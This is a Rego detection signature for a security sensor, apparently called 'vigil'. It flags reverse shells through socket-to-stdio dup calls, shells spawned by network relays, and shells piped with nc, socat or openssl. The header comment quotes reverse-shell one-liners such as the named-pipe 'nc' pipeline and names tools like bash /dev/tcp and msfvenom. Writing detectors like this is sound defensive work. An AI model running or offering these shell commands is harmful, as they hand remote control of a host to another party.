# Reverse shell: a process puts a network connection on its standard input,
# output or error, so that whoever is at the other end drives the shell or
# interpreter it runs (or becomes).
#
# The kernel's view is the same whatever the tool: bash's /dev/tcp, nc -e,
# python's os.dup2(s.fileno(), 0), a msfvenom payload, a Go implant passing
# a socket as a child's stdio: a dup2/dup3 (or dup into a free stdio slot)
# of a connected TCP or UDP socket onto fd 0, 1 or 2. Sockets the process
# accepted from a listener are the bind shell's (bind-shell); sockets whose
# origin the sensor did not see (opened before it started) are treated as
# connected out.
#
# Relays that keep the socket to themselves (socat EXEC:, ncat --sh-exec
# with pipes) give the shell a socketpair or pipes instead: those are seen
# at the shell's exec, when its stdin is a socket and its parent is such a
# relay. A shell with a socket on stdin alone is no finding: libuv
# (Node.js), socket-activated services and sshd give children socketpairs
# as stdio every day.
#
# Pipelines keep the socket in the relay too: `nc host port | sh`, and the
# named-pipe form `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`. The
# sensor joins a pipeline's execs by their pipe (stdin_writer_* and
# stdout_reader_* on the exec that comes second): a shell or interpreter
# that runs code from its stdin, with a network relay (nc, ncat, socat,
# telnet, openssl s_client, ...) feeding that stdin or reading its stdout,
# is a reverse (or bind) shell. A shell running a script file, or a
# command string, piped into nc (`sh report.sh | nc host port`) is not.
package vigil.signatures.reverse_shell

import data.vigil.lib

metadata := {
	"id": "reverse-shell",
	"name": "Reverse shell",
	"version": "1.0.0",
	"severity": "critical",
	"description": "A process put a TCP or UDP connection it did not accept from a listener on its standard input, output or error (dup2/dup3 onto fd 0-2), or a shell or interpreter started by a network relay (nc, socat, ...) got a socket as stdin: the remote end drives a shell on this host.",
	"tactics": ["TA0002", "TA0011"],
	"techniques": ["T1059.004", "T1071"],
	"tags": ["network", "shell", "reverse-shell"],
	"events": ["dup", "dup2", "dup3", "sched_process_exec"],
}

dup_events := {"dup", "dup2", "dup3"}

# Super-servers (inetd, systemd socket activation, sshd) hand accepted
# connections to programs as stdio by design; their sockets are accepted
# ones anyway, but sshd also re-executes itself with a socket it inherited.
super_server if lib.is_process_named(input.process, lib.super_servers)

reasons contains "socket-on-stdio" if {
	input.name in dup_events
	input.args.newfd in lib.stdio_fds
	input.args.fd_type == "socket"
	lib.is_inet_peer(input.args)
	lib.arg("origin", "") != "accept"
	not super_server
}

reasons contains "shell-from-relay" if {
	input.name == "sched_process_exec"
	lib.arg("stdin_type", "") == "socket"
	is_shell_or_interpreter(input.args.pathname)
	parent := object.get(input.process, "ancestors", [])[0]
	lib.is_process_named(parent, lib.net_relays)
}

# a relay's end of a pipe and a shell taking code from the other end; the
# relay is named by comm and argv (openssl only as s_client)
relay_end(comm, _) if comm in lib.net_relays

relay_end("openssl", argv) if "s_client" in argv

reasons contains "shell-piped-with-relay" if {
	input.name == "sched_process_exec"
	lib.reads_program_from_stdin(lib.exec_path, input.args.argv)
	relay_end(input.args.stdin_writer_comm, object.get(input.args, "stdin_writer_argv", []))
}

reasons contains "shell-piped-with-relay" if {
	input.name == "sched_process_exec"
	lib.reads_program_from_stdin(lib.exec_path, input.args.argv)
	relay_end(input.args.stdout_reader_comm, object.get(input.args, "stdout_reader_argv", []))
}

reasons contains "shell-piped-with-relay" if {
	input.name == "sched_process_exec"
	relay_end(input.process.comm, input.args.argv)
	reader := input.args.stdout_reader_comm
	lib.reads_program_from_stdin(reader, object.get(input.args, "stdout_reader_argv", [reader]))
}

reasons contains "shell-piped-with-relay" if {
	input.name == "sched_process_exec"
	relay_end(input.process.comm, input.args.argv)
	writer := input.args.stdin_writer_comm
	lib.reads_program_from_stdin(writer, object.get(input.args, "stdin_writer_argv", [writer]))
}

is_shell_or_interpreter(path) if lib.is_shell(path)

is_shell_or_interpreter(path) if lib.is_process_named({"exe": path}, lib.interpreters)

finding contains {
	"reasons": sort(reasons),
	"fd": lib.arg("newfd", 0),
	"remote_addr": lib.arg("remote_addr", ""),
	"remote_port": lib.arg("remote_port", 0),
	"local_port": lib.arg("local_port", 0),
	"origin": lib.arg("origin", ""),
	"program": object.get(input.process, "exe", object.get(input.process, "comm", "")),
	"ancestry": lib.ancestry,
} if {
	count(reasons) > 0
}
